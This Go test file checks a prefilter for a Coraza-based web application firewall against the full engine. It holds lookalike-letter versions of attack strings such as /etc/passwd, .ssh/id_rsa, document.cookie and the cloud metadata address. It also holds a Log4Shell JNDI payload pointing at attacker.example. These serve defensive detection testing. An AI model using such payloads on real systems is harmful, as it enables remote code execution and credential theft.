package sieve

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"weir/inspect/engine"
)

// attacks are the payloads of the corpus.
func attacks() ([]string, error) {
	raw, err := os.ReadFile("../../test/corpus/attacks.jsonl")
	if err != nil {
		return nil, err
	}
	var out []string
	for d := json.NewDecoder(bytes.NewReader(raw)); ; {
		var c struct {
			Payload string
			Binary  bool
		}
		if err := d.Decode(&c); errors.Is(err, io.EOF) {
			return out, nil
		} else if err != nil {
			return nil, err
		}
		if c.Binary {
			data, err := base64.StdEncoding.DecodeString(c.Payload)
			if err != nil {
				return nil, err
			}
			c.Payload = string(data)
		}
		out = append(out, c.Payload)
	}
}

// nearly are texts that conditions hold for, and that rules do not match: their letters are foreign.
var nearly = []string{
	"cat /etc/pa\u017f\u017fwd", "/bin/ba\u017fh", "file_put_content\u017f(", "a.w\u017fdl .hta\u212ae .ht\u212aacce\u017f\u017f", "java.lang.Proce\u017f\u017fBuilder",
	"document.coo\u212aie", "169.254.169.254/late\u017ft", "$_\u017fERVER", "invo\u212ae-expre\u017f\u017fion", "Get-Proce\u017f\u017f", ".\u017f\u017fh/id_r\u017fa",
}

// inFull is all that the engine says of each match, in its order, but for what hangs on chance: Coraza lists the values
// that match a rule in the order of a map.
func inFull(matches []engine.Match, err error) []string {
	var out []string
	for len(matches) > 0 {
		n := slices.IndexFunc(matches, func(m engine.Match) bool { return m.Rule != matches[0].Rule })
		if n < 0 {
			n = len(matches)
		}
		one := matches[:n]
		slices.SortStableFunc(one, func(a, b engine.Match) int { return a.Value - b.Value })
		for _, m := range one {
			out = append(out, fmt.Sprintf("%+v", m))
		}
		matches = matches[n:]
	}
	if err != nil {
		out = append(out, err.Error())
	}
	return out
}

// certainOf are suspects with what is certain of each value.
func certainOf(sieve *Sieve, s *Suspects, values []engine.Value) *engine.Suspects {
	asked := &engine.Suspects{Matches: s.Matches}
	for _, v := range values {
		s.Begin()
		sieve.Suspect([]byte(v.Text), s)
		asked.ByValue = append(asked.ByValue, slices.Clone(s.Since()))
		asked.Certain = append(asked.Certain, slices.Clone(s.Certain()))
	}
	asked.Rules, _ = s.Rules()
	return asked
}

// What is certain, Coraza would say word for word, in the same place, with whatever else it is asked about.
func TestWhatIsCertainIsWhatTheEngineFinds(t *testing.T) {
	n, every := 4, 23
	switch {
	case *full:
		n, every = 10, 1
	case testing.Short():
		n, every = 1, 41
	}
	texts := slices.Concat(nearly, spelt(n, 47), mustList(t, attacks), mustList(t, regressions), mustList(t, fixtures), plain, transformed, traps)
	told, all := make(map[int]bool), 0
	for level := 1; level <= 4; level++ {
		e := engineAt(t, level)
		for i, text := range texts {
			if i >= len(nearly) && i%every != level%every || !sieveAt(level).MayMatch([]byte(text)) {
				continue
			}
			values := []engine.Value{{Name: "a", Text: text}}
			for n, name := range []string{"", "b", "c"}[:i%4] { // they differ, since the links of a chain tell Coraza's texts by name
				values = append(values, engine.Value{Name: name, Text: texts[(i*31+n*1009+7)%len(texts)]})
			}
			var suspects Suspects
			asked := certainOf(sieveAt(level), &suspects, values)
			few, err := e.Evaluate(context.Background(), nil, values, asked)
			asked.Certain = nil
			long, longErr := e.Evaluate(context.Background(), nil, values, asked)
			without := make(map[int]bool) // a text: those that are certain
			for _, m := range few {
				if all++; m.Text == "" {
					without[m.Rule], told[m.Rule] = true, true
				}
			}
			for i := range long {
				if without[long[i].Rule] {
					long[i].Text = ""
				}
			}
			if got, want := inFull(few, err), inFull(long, longErr); !slices.Equal(got, want) {
				t.Errorf("level %d, %q: Coraza says\n%s\nwith what is certain\n%s", level, values, strings.Join(want, "\n"), strings.Join(got, "\n"))
			}
		}
	}
	t.Logf("%d matches, and %d rules were certain", all, len(told))
	if len(told) < 50 {
		t.Errorf("only %d rules were ever certain", len(told))
	}
}

// Beside a request Coraza is asked about all: what steers may look at it.
func TestNothingIsCertainBesideARequest(t *testing.T) {
	values := []engine.Value{{Name: "a", Text: "${jndi:ldap://attacker.example/a}"}}
	var suspects Suspects
	asked := certainOf(sieveAt(1), &suspects, values)
	request := &engine.Request{Method: "GET", URI: "/", Protocol: "HTTP/1.1", ClientIP: "192.0.2.1", Headers: []engine.Header{{Name: "Host", Value: "a"}}}
	for with, want := range map[*engine.Request]bool{nil: true, request: false} {
		matches, err := engineAt(t, 1).Evaluate(context.Background(), with, values, asked)
		at := slices.IndexFunc(matches, func(m engine.Match) bool { return m.Rule == 944150 })
		if err != nil || at < 0 || (matches[at].Text == "") != want {
			t.Errorf("beside %v: %+v, %v", with, matches, err)
		}
	}
}
